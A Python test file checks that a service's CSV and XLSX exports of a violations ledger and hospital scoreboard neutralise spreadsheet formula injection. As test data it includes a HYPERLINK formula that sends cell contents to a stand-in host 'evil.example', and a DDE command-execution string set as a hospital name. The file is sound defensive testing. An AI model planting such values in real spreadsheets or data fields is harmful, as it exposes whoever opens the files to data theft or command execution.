"""Exported cells never run as formulas (CSV injection), in CSV and XLSX, ledger and scoreboard."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from fastapi import FastAPI
from openpyxl import load_workbook

from service.cells import inert
from service.regions.models import Hospital
from tests import factories as f

HOSTILE = ["-1-1", "-A1:B2", '=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+1", "@SUM(A1)"]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("-1-1", "'-1-1"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("V-1", "V-1"),
        ("", ""),
        (-5, -5),
    ],
)
def test_a_cell_that_would_start_a_formula_is_quoted(value: object, shown: object) -> None:
    assert inert(value) == shown


@pytest.fixture
async def hostile_ledger(app: FastAPI) -> None:
    await f.book(app.state.sessionmaker, *(f.finding(visit_id=v) for v in HOSTILE))


async def test_the_csv_export_quotes_formula_cells(
    client: httpx.AsyncClient, auditor_headers: dict[str, str], hostile_ledger: None
) -> None:
    response = await client.get(
        "/v1/violations/export.csv", params={"sort": "asc"}, headers=auditor_headers
    )
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    visit_ids = [row[7] for row in rows[1:]]
    assert visit_ids == ["'" + v for v in HOSTILE]


async def test_the_xlsx_export_writes_formula_like_text_as_text(
    client: httpx.AsyncClient, auditor_headers: dict[str, str], hostile_ledger: None
) -> None:
    response = await client.get(
        "/v1/violations/export.xlsx", params={"sort": "asc"}, headers=auditor_headers
    )
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [row[7] for row in sheet.iter_rows(min_row=3)]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    assert [c.value for c in cells] == HOSTILE


async def test_the_scoreboard_exports_quote_a_hostile_hospital_name(
    app: FastAPI, client: httpx.AsyncClient, auditor_headers: dict[str, str]
) -> None:
    async with app.state.sessionmaker() as s:
        hospital = await s.get(Hospital, f.TOWNSHIP_HOSPITAL)
        assert hospital is not None
        hospital.name = "=cmd|' /C calc'!A0"
        s.add(hospital)
        await s.commit()
    await f.book(app.state.sessionmaker, f.finding(hospital_code=f.TOWNSHIP_HOSPITAL))
    period = {"from": "2026-03-01", "to": "2026-03-31"}
    text = (
        await client.get(
            "/v1/violations/scoreboard/export.csv", params=period, headers=auditor_headers
        )
    ).text
    names = [row[3] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))]
    assert "'=cmd|' /C calc'!A0" in names
    assert "=cmd|' /C calc'!A0" not in names
    content = (
        await client.get(
            "/v1/violations/scoreboard/export.xlsx", params=period, headers=auditor_headers
        )
    ).content
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [row[3] for row in sheet.iter_rows(min_row=2) if row[3].value == "=cmd|' /C calc'!A0"]
    assert [c.data_type for c in cells] == ["s"]
